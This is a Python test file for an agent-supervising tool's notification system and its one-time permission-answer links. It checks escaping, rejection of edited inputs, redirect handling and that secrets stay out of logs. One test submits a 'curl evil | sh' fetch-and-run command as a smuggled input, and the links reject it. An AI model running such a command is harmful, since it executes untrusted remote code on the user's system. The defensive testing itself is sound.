"""Notices to a receiver on loopback, as the guide writes them, and the links that they carry."""

from __future__ import annotations

import json
import os
import queue
import re
import select
import signal
import socket
import sqlite3
import time
import tomllib
from collections.abc import Iterator
from contextlib import ExitStack, closing
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Event, Thread
from typing import Any, NamedTuple

import pytest

from remuda.boss.notices.notify_file import read_settings
from support.begin import begin_in
from support.boss import KEPT, RunningBoss, event
from support.commands import Commands
from support.heimdall_client import PATIENCE
from support.keeper import Start, until

GUIDE = Path(__file__).parents[2] / "docs/reference/notify.md"


class Got(NamedTuple):
    path: str
    headers: dict[str, str]
    body: str


class Receiver:
    def __init__(self) -> None:
        self.got: queue.Queue[Got] = queue.Queue()
        self.failures = 0
        receiver = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:  # the name is the library's
                body = self.rfile.read(int(self.headers["Content-Length"])).decode()
                failing = receiver.failures > 0
                receiver.failures -= failing
                self.send_response(503 if failing else 200)
                self.send_header("Content-Length", "0")
                self.end_headers()
                if not failing:
                    receiver.got.put(Got(self.path, dict(self.headers), body))

            def log_message(self, *_args: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        self._thread = Thread(target=self._server.serve_forever, args=(0.05,))
        self._thread.start()

    def next(self) -> Got:
        return self.got.get(timeout=PATIENCE)

    def close(self) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    made = Receiver()
    yield made
    made.close()


class Drip:
    """Answers each who comes with a drop now and then, without end: no timeout of his helps him."""

    def __init__(self) -> None:
        self.came = 0
        self._listener = socket.create_server(("127.0.0.1", 0), backlog=128)
        self.url = f"http://127.0.0.1:{self._listener.getsockname()[1]}"
        self._ended = Event()
        self._thread = Thread(target=self._serve)
        self._thread.start()

    def _serve(self) -> None:
        held: list[socket.socket] = []
        while not self._ended.wait(0.05):
            while select.select([self._listener], [], [], 0)[0]:
                held.append(self._listener.accept()[0])
                held[-1].sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 60000\r\n\r\n")
                self.came += 1
            held = [one for one in held if dripped(one)]
        for one in held:
            one.close()

    def close(self) -> None:
        self._ended.set()
        self._thread.join()
        self._listener.close()


def dripped(one: socket.socket) -> bool:
    try:
        one.sendall(b".")
    except OSError:
        one.close()
        return False
    return True


@pytest.fixture
def drip() -> Iterator[Drip]:
    made = Drip()
    yield made
    made.close()


def examples() -> list[str]:
    """The receivers in the guide."""
    blocks = re.findall(r"```toml\n(.*?)```", GUIDE.read_text(), re.DOTALL)
    return [block for block in blocks if "url =" in block]


def write_settings(boss: RunningBoss, text: str) -> None:
    (boss.folder.path / "notify.toml").write_text(text)


def told() -> dict[str, Any]:
    payload = {
        "session_id": "s",
        "hook_event_name": "PermissionRequest",
        "tool_name": "Bash",
        "tool_input": {"command": "echo '<b>'"},
        "cwd": "/srv",
    }
    return {"payload": payload, "id": "ask"}


def test_notices_are_posted_as_the_guide_writes_them(boss: RunningBoss, receiver: Receiver) -> None:
    blocks = examples()
    assert len(blocks) == 3
    here = [re.sub(r'url = "https://[^/"]+', f'url = "{receiver.url}', block) for block in blocks]
    write_settings(boss, "threshold = 0\n" + "\n".join(here))
    with boss.holding(told()) as hook:
        got = {one.path.split("/")[1]: one for one in (receiver.next(), receiver.next(), receiver.next())}
        own = got["agents"]
        assert own.headers["X-Reason"] == "permission"
        title, message, link = own.body.splitlines()
        assert (title, message) == ("srv: permission", "Bash: echo '<b>'")
        assert json.loads(got["services"].body)["text"] == f"*srv: permission*\nBash: echo '<b>'\n{link}"
        assert json.loads(got["bot123456:TOKEN"].body)["chat_id"] == 42
        secret = link.rpartition("/")[2]
        page = boss.ask("GET", f"/v1/answer/{secret}", token=None)
        assert page.headers["content-type"] == "text/html; charset=utf-8"
        assert "frame-ancestors 'none'" in page.headers["content-security-policy"]
        assert b"<h1>srv requests permission: Bash</h1>" in page.body
        assert b"&lt;b&gt;" in page.body
        assert b"<b>'" not in page.body
        # Anyone who previews links looks at them, in all sorts of ways: that is no answer.
        for method, path in [("GET", f"{secret}?utm_source=chat&behavior=allow"), ("HEAD", secret)]:
            assert boss.ask(method, f"/v1/answer/{path}", token=None).status in (200, 405)
        form = {"Content-Type": "application/x-www-form-urlencoded"}
        refused = boss.ask("POST", f"/v1/answer/{secret}", b"behavior=allow", form, token=None)
        assert refused.status == 415
        for more in ({"updated_input": {"command": "curl evil | sh"}}, {"always": True}, {"by": "policy: x"}):
            edited = boss.ask("POST", f"/v1/answer/{secret}", {"behavior": "allow", **more}, token=None)
            assert (edited.status, edited.json["error"]["code"]) == (400, "INVALID_OPTIONS")
            assert f"'{next(iter(more))}'" in edited.json["error"]["message"]
        for wrong in ({"behavior": "maybe"}, {"behavior": "deny", "message": "x" * 10_001}):
            assert boss.ask("POST", f"/v1/answer/{secret}", wrong, token=None).status == 400
        assert not hook.done()
        answered = boss.ask("POST", f"/v1/answer/{secret}", {"behavior": "deny", "message": "no"}, token=None)
        assert (answered.status, answered.json["by"]) == (200, "link")
        said = hook.result(PATIENCE)["output"]["hookSpecificOutput"]["decision"]
        assert said == {"behavior": "deny", "message": "no"}
    again = boss.ask("POST", f"/v1/answer/{secret}", {"behavior": "allow"}, token=None)
    assert (again.status, again.json["error"]["code"]) == (409, "ALREADY_ANSWERED")
    assert (
        again.json["error"]["message"] == "this link was already used; it works once: the request was denied"
    )
    page = boss.ask("GET", f"/v1/answer/{secret}", token=None)
    assert (page.status, page.headers["content-type"]) == (409, "text/html; charset=utf-8")
    assert b"this link was already used; it works once: the request was denied" in page.body
    assert b"<button" not in page.body


def test_variables_of_trail_boss_notify_its_chat_until_a_file_says_otherwise(
    boss: RunningBoss, receiver: Receiver, monkeypatch: pytest.MonkeyPatch
) -> None:
    boss.end()
    chat = {"TELEGRAM_PROXY_URL": receiver.url, "TELEGRAM_CHAT_ID": "42", "NOTIFY_CHECK_INTERVAL_MS": "0"}
    for name, value in chat.items():
        monkeypatch.setenv(name, value)
    boss.start()
    boss.tell(event("stopped", 1000.0, session="one", cwd="/srv", message="a secret"))
    got = receiver.next()
    text = json.loads(got.body)["text"].splitlines()
    assert (got.path, json.loads(got.body)["chat_id"], text[0]) == ("/send", "42", "srv: stopped")
    assert "/#/queue/" in text[1]
    assert "secret" not in got.body
    write_settings(boss, f'threshold = 0\n[[to]]\nurl = "{receiver.url}/file"\n')
    boss.tell(event("stopped", 1001.0, session="two", cwd="/srv"))
    assert receiver.next().path == "/file"


def test_receiver_that_fails_is_tried_again_and_one_that_is_wrong_stops_nothing(
    boss: RunningBoss, receiver: Receiver
) -> None:
    receiver.failures = 1
    write_settings(boss, f'threshold = 0\n[[to]]\nurl = "{receiver.url}/a"\nreasons = ["stopped"]\n')
    boss.tell(event("stopped", 1000.0, session="one", message="done"))
    got = receiver.next()
    assert (got.path, got.body) == ("/a", "done\n")
    write_settings(boss, "threshold = 'x'")
    boss.tell(event("stopped", 1000.0, session="two", message="done"))
    write_settings(boss, f'threshold = 0\n[[to]]\nurl = "{receiver.url}/b"\n')
    assert receiver.next().path == "/b"


def test_notice_of_a_kept_session_at_a_dialog_that_no_hook_reports_says_what_is_open(
    home: Path, start: Start, tmp_path: Path, receiver: Receiver, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MOCK_AUTO_MODE_DIALOG", "1")
    for folder in ("project", "claude"):
        (tmp_path / folder).mkdir()
    with RunningBoss(home, (KEPT,)) as boss:
        body = "{session}: {reason}: {message}"
        write_settings(boss, f'threshold = 0\n[[to]]\nurl = "{receiver.url}"\nbody = "{body}"\n')
        begin = begin_in(tmp_path / "project", tmp_path / "claude", start)
        _, watcher = begin("a", "--permission-mode", "auto")
        watcher.paste("RUNBASH touch made")
        assert receiver.next().body == "a: question: dialog open"


def test_notice_that_was_sent_is_not_sent_by_the_next_boss(boss: RunningBoss, receiver: Receiver) -> None:
    write_settings(
        boss, f'threshold = 0\ncooldown = 0\n[[to]]\nurl = "{receiver.url}"\nbody = "{{session}}"\n'
    )
    boss.tell(event("stopped", 1000.0, session="one"))
    assert receiver.next().body == "one"
    until(lambda: written_down(boss), "that it was told, written down")
    boss.restart(signal.SIGKILL)
    boss.tell(event("stopped", 1001.0, session="two"))
    assert receiver.next().body == "two"
    assert receiver.got.empty()


def test_notice_whose_link_cannot_be_written_is_reported_later_and_the_others_at_once(
    boss: RunningBoss, receiver: Receiver
) -> None:
    full = "BEFORE INSERT ON note WHEN NEW.name = 'answer_links' BEGIN SELECT RAISE(ABORT, 'no room'); END"
    alter(boss, f"CREATE TRIGGER full {full}")
    boss.tell(
        event("asked", 1000.0, session="asks", tool="Bash", input={"command": "x"}, reason="permission"),
        event("stopped", 1001.0, session="stops"),
    )
    text = 'threshold = 0\n[[to]]\nurl = "{}"\nbody = "{{session}} {{link}}"\n'
    write_settings(boss, text.format(receiver.url))
    assert receiver.next().body == "stops "
    assert "no notice can be sent: cannot write to" in boss.folder.log.read_text()
    alter(boss, "DROP TRIGGER full")
    assert receiver.next().body.startswith("asks http://")
    # Nothing else has suffered by it.
    boss.tell(event("stopped", 1002.0, session="later"))
    assert receiver.next().body == "later "


def alter(boss: RunningBoss, statement: str) -> None:
    with closing(sqlite3.connect(boss.folder.path / "boss.db", timeout=PATIENCE)) as database:
        database.execute(statement)


def written_down(boss: RunningBoss) -> bool:
    with closing(sqlite3.connect(boss.folder.path / "boss.db")) as database:
        return bool(database.execute("SELECT value FROM note WHERE name = 'notices'").fetchall())


@pytest.mark.parametrize("secret", ["x" * 32, "x", "x" * 31, "../queue"])
def test_link_that_no_one_made_opens_nothing(served: RunningBoss, secret: str) -> None:
    for method, body in (("GET", None), ("POST", {"behavior": "allow"})):
        answer = served.ask(method, f"/v1/answer/{secret}", body, token=None)
        assert answer.status == (404 if len(secret) == 32 else 401)


def test_settings_of_the_guide_are_right() -> None:
    blocks = re.findall(r"```toml\n(.*?)```", GUIDE.read_text(), re.DOTALL)
    assert all(read_settings(tomllib.loads(block)) for block in blocks)


# ── receivers that never answer ──


def write_settings_for(boss: RunningBoss, *receivers: str) -> None:
    addresses = [f'[[to]]\nurl = "{url}"\nbody = "{{session}}"\n' for url in receivers]
    write_settings(boss, "threshold = 0\ncooldown = 0\n" + "".join(addresses))


def test_receiver_that_never_answers_keeps_nothing_else_waiting(
    boss: RunningBoss, receiver: Receiver, drip: Drip
) -> None:
    # More than there are threads, on any machine; all of them are due in the same round.
    many = [f"s{number}" for number in range(40)]
    boss.tell(*(event("stopped", 1000.0, session=one) for one in many))
    write_settings_for(boss, drip.url, receiver.url)
    until(lambda: drip.came, "somebody who waits for the drip")
    for number in range(5):
        payload = {"session_id": f"new{number}", "hook_event_name": "Stop", "last_assistant_message": "x"}
        boss.client.post("hooks", body={"payload": payload})
    assert {receiver.next().body for _ in range(45)} == {*many, *(f"new{number}" for number in range(5))}
    with boss.holding(told()) as hook:
        approval = boss.client.get("approvals", state="open")["approvals"][0]["id"]
        boss.client.post("approvals", approval, "answer", body={"behavior": "deny"})
        assert hook.result(PATIENCE)["output"]["hookSpecificOutput"]["decision"]["behavior"] == "deny"


def test_receiver_hears_at_once_though_five_others_never_answer(
    boss: RunningBoss, receiver: Receiver
) -> None:
    with ExitStack() as held:
        drips = [held.enter_context(closing(Drip())) for _ in range(5)]
        many = {f"s{number}" for number in range(5)}
        boss.tell(*(event("stopped", 1000.0, session=one) for one in many))
        write_settings_for(boss, *(drip.url for drip in drips), receiver.url)
        assert {receiver.next().body for _ in many} == many
        boss.end(signal.SIGKILL)


def test_receiver_that_took_a_notice_gets_no_other_while_another_never_answers(
    boss: RunningBoss, receiver: Receiver, drip: Drip
) -> None:
    write_settings_for(boss, drip.url, receiver.url)
    boss.tell(event("stopped", 1000.0, session="one"))
    assert receiver.next().body == "one"
    until(lambda: drip.came and "partly" in note_of(boss), "that one receiver was told, written down")
    boss.end(signal.SIGKILL)
    before = drip.came
    boss.start()
    until(lambda: drip.came > before, "the other receiver, asked again")
    boss.tell(event("stopped", 1001.0, session="two"))
    assert receiver.next().body == "two"
    assert receiver.got.empty()


def test_receiver_that_drips_without_end_is_given_up_on(boss: RunningBoss, drip: Drip) -> None:
    write_settings_for(boss, drip.url)
    boss.tell(event("stopped", 1000.0, session="one"))
    line = f"cannot notify {drip.url}: no complete answer within 10 s"
    until(lambda: line in boss.folder.log.read_text(), "the end of its time, in the log")
    boss.end(signal.SIGKILL)


def note_of(boss: RunningBoss) -> dict[str, Any]:
    with closing(sqlite3.connect(boss.folder.path / "boss.db")) as database:
        found = database.execute("SELECT value FROM note WHERE name = 'notices'").fetchone()
    return dict(json.loads(found[0])) if found else {}


def test_boss_ends_though_a_receiver_never_answers(remuda: Commands, boss: RunningBoss, drip: Drip) -> None:
    boss.tell(event("stopped", time.time() - 60, session="one"))
    write_settings_for(boss, drip.url)
    until(lambda: drip.came, "somebody who waits for the drip")
    goes_down(remuda, boss, "notice_0")
    boss.start()
    assert [item["session_id"] for item in boss.waiting()] == ["one"]


def test_boss_with_a_pipe_for_its_settings_of_notices_goes_on_and_ends(
    remuda: Commands, boss: RunningBoss
) -> None:
    os.mkfifo(boss.folder.path / "notify.toml")
    boss.tell(event("stopped", 1000.0, session="one"))
    assert [one["session_id"] for one in boss.waiting()] == ["one"]
    assert "stopped the boss" in remuda("down").out
    boss.end()


def goes_down(remuda: Commands, boss: RunningBoss, left: str) -> None:
    process = boss.process
    assert process is not None
    assert f"stopped the boss (pid {process.pid})" in remuda("down").out
    assert process.ended()
    assert f"threads that did not end: {left}" in boss.folder.log.read_text()
    assert not boss.folder.lock.exists()
    boss.end()


def test_boss_that_ends_in_peace_leaves_no_thread_behind(boss: RunningBoss, receiver: Receiver) -> None:
    write_settings_for(boss, receiver.url)
    boss.tell(event("stopped", 1000.0, session="one", cwd="/"))
    receiver.next()
    until(lambda: written_down(boss), "that it was told, written down")
    boss.end()
    assert "left behind" not in boss.folder.log.read_text()


# ── redirects, secrets in addresses, markup ──


class Turning:
    """Sends each who comes to another address, or says what is not HTTP."""

    def __init__(self, said: bytes) -> None:
        self.came: queue.Queue[bytes] = queue.Queue()
        self._said = said
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        self._thread = Thread(target=self._serve)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                one, _ = self._listener.accept()
            except OSError:
                return
            with one:
                self.came.put(one.recv(65536))
                one.sendall(self._said)

    def close(self) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        self._thread.join()


def logged(boss: RunningBoss, text: str) -> bool:
    return text in boss.folder.log.read_text()


@pytest.mark.parametrize("status", ["301 Moved", "302 Found", "303 See Other", "307 Again", "308 Always"])
def test_redirect_of_a_receiver_is_not_followed_and_said_in_the_log(
    boss: RunningBoss, receiver: Receiver, status: str
) -> None:
    where = f"HTTP/1.1 {status}\r\nLocation: {receiver.url}/elsewhere\r\nContent-Length: 0\r\n\r\n"
    turning = Turning(where.encode())
    try:
        text = f'threshold = 0\n[[to]]\nurl = "http://127.0.0.1:{turning.port}/botSECRET/send?key=SECRET"\n'
        write_settings(boss, text + 'headers = { Authorization = "Bearer SECRET" }\n')
        boss.tell(event("stopped", 1000.0, message="done"))
        assert b"Bearer SECRET" in turning.came.get(timeout=PATIENCE)
        until(lambda: logged(boss, "a redirect; redirects are not followed"), "a line in the log")
    finally:
        turning.close()
    assert receiver.got.empty()
    assert f"cannot notify http://127.0.0.1:{turning.port}: it answered with status {status[:3]}" in (
        boss.folder.log.read_text()
    )
    assert "SECRET" not in boss.folder.log.read_text()


@pytest.mark.parametrize(
    ("said", "why"),
    [
        (b"not HTTP\r\n\r\n", "BadStatusLine"),
        (b"", "RemoteDisconnected"),
        (b"HTTP/1.1 404 \x1b[2J\r\nContent-Length: 0\r\n\r\n", "it answered with status 404"),
    ],
)
def test_receiver_that_answers_nonsense_is_logged_by_its_host_alone(
    boss: RunningBoss, said: bytes, why: str
) -> None:
    turning = Turning(said)
    try:
        address = f"http://127.0.0.1:{turning.port}/botSECRET/send"
        write_settings(boss, f'threshold = 0\n[[to]]\nurl = "{address}"\n')
        boss.tell(event("stopped", 1000.0, message="done"))
        line = f"cannot notify http://127.0.0.1:{turning.port}: {why}"
        until(lambda: logged(boss, line), "a line in the log")
    finally:
        turning.close()
    assert "SECRET" not in boss.folder.log.read_text()
    assert "\x1b" not in boss.folder.log.read_text()
    assert b"SECRET" not in boss.ask("GET", "/v1/health").body


def test_receiver_that_cannot_be_reached_is_logged_by_its_host_alone(boss: RunningBoss) -> None:
    write_settings(boss, 'threshold = 0\n[[to]]\nurl = "http://127.0.0.1:1/botSECRET/send"\n')
    boss.tell(event("stopped", 1000.0, message="done"))
    line = "cannot notify http://127.0.0.1:1: Connection refused"
    until(lambda: logged(boss, line), "a line in the log")
    assert "SECRET" not in boss.folder.log.read_text()


@pytest.fixture
def desktop(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A program that stands in for the desktop: the file where it writes down what it was given."""
    programs, written = tmp_path / "programs", tmp_path / "written"
    programs.mkdir()
    program = programs / "notify-send"
    program.write_text(f"#!/bin/sh\nprintf '%s\\0' \"$@\" > {written}.part\nmv {written}.part {written}\n")
    program.chmod(0o700)
    monkeypatch.setenv("PATH", f"{programs}:{os.environ['PATH']}")
    return written


def test_desktop_gets_text_and_no_markup(desktop: Path, boss: RunningBoss) -> None:
    write_settings(boss, "threshold = 0\n[[to]]\ndesktop = true\n")
    message = '<a href="http://evil.example">ok</a> & \x1b[2J\u202e' + "<b>" * 5000
    boss.tell(event("stopped", 1000.0, session="one", cwd="/srv/<i>", message=message))
    until(desktop.exists, "a notice on the desktop")
    words = desktop.read_text().rstrip("\0").split("\0")
    assert words[:3] == ["--app-name=remuda", "--", "<i>: stopped"]
    assert words[3].startswith('&lt;a href="http://evil.example"&gt;ok&lt;/a&gt; &amp; \ufffd[2J\ufffd&lt;b')
    assert len(words) == 4
    assert len(words[3]) < 2000


def test_notify_test_sends_to_each_receiver_and_says_what_became_of_it(
    remuda: Commands, receiver: Receiver, tmp_path: Path
) -> None:
    assert remuda("notify").out.startswith("no one is notified: ~/.config/remuda/notify.toml not found\n")
    program = tmp_path / "bin" / "notify-send"
    program.parent.mkdir()
    program.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" > {tmp_path}/shown\n')
    program.chmod(0o755)
    file = remuda.home / "boss" / "notify.toml"
    file.parent.mkdir(exist_ok=True)
    desktop, posted = 'desktop = true\nreasons = ["plan"]', f'url = "{receiver.url}/secret"'
    file.write_text(f'quiet = ["00:00-24:00"]\n[[to]]\n{desktop}\n[[to]]\n{posted}\n')
    assert remuda("notify").out.splitlines()[0] == "the desktop: plan"
    env = {"PATH": f"{program.parent}:{os.environ['PATH']}"}
    assert remuda("notify", "--test", env=env).out.splitlines() == [
        "ok    the desktop accepted the test notice",
        f"ok    {receiver.url} accepted the test notice (status 200)",
    ]
    assert "This is a test notice" in receiver.next().body
    assert "test: stopped" in (tmp_path / "shown").read_text()
    receiver.failures = 1
    done = remuda("notify", "--test", "--json", code=1, env=env)
    assert [one["error"] for one in json.loads(done.out)["receivers"]] == [
        None,
        "it answered with status 503",
    ]
    assert "secret" not in done.out
    file.write_text("nonsense = 1\n")
    assert "unknown key" in remuda.refused("notify", "--test", code=2)
